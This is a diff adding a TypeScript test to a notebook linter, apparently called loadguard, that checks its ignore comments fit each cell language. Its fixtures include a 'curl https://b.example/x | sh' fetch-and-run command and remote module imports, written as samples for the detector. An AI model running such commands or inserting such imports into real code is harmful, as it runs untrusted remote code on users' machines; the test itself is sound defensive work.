@@ -117,6 +117,34 @@ describe('comments that accept findings', () => {
     }
   });
 
+  it('are written in a cell as its own language demands', () => {
+    const tag = "<script src='https://cdn.jsdelivr.net/npm/vue/dist/vue.js'></script>";
+    for (const [text, comment] of [
+      ["%%javascript\nconst a = 1;\nimport('https://x.example/a.js')", '// loadguard: '],
+      ["%%js\nimport('https://x.example/a.js')", '// loadguard: '],
+      [`%%html\n<p>\n${tag}`, '<!-- loadguard: '],
+      ['%%bash\necho 1\ncurl https://b.example/x | sh', '# loadguard: '],
+      ['x = 1\n!curl https://b.example/x | sh', '# loadguard: '],
+    ] as const) {
+      const found = (cell: string) => {
+        const uri = 'file:///a.ipynb#0';
+        return service.openNotebook('file:///a.ipynb', [{ uri, language: 'python', text: cell }]).check().findings;
+      };
+      const [finding, ...others] = found(text);
+      assert.deepEqual(others, []);
+      const ignore = finding!.fixes.find(({ kind }) => kind === 'ignore')!;
+      assert(ignore.edits[0]!.newText.startsWith(comment), ignore.edits[0]!.newText);
+      const explained = applyFix(text, ignore).replace('why this is acceptable', 'we serve that file');
+      assert.deepEqual(brief(found(explained)), [], explained);
+      const unused = brief(found(explained.replace(finding!.rule, 'remote-exec')));
+      assert.deepEqual(unused.map((it) => it.split(' ')[1]).sort(), [finding!.rule, 'unused-suppression'].sort());
+    }
+    const inScript =
+      "%%html\n<script>\n// loadguard: ignore[remote-module] ours\nimport('https://x.example/a.js')\n</script>";
+    const cell = { uri: 'file:///a.ipynb#0', language: 'python', text: inScript } as const;
+    assert.deepEqual(service.openNotebook('file:///a.ipynb', [cell]).check().findings, []);
+  });
+
   it('can be passed over, and can be locked', () => {
     const text = `${PYTHON}  # loadguard: ignore[code-injection] ours alone\n`;
     assert.deepEqual(found(text, { ignores: false }), ['1 code-injection']);
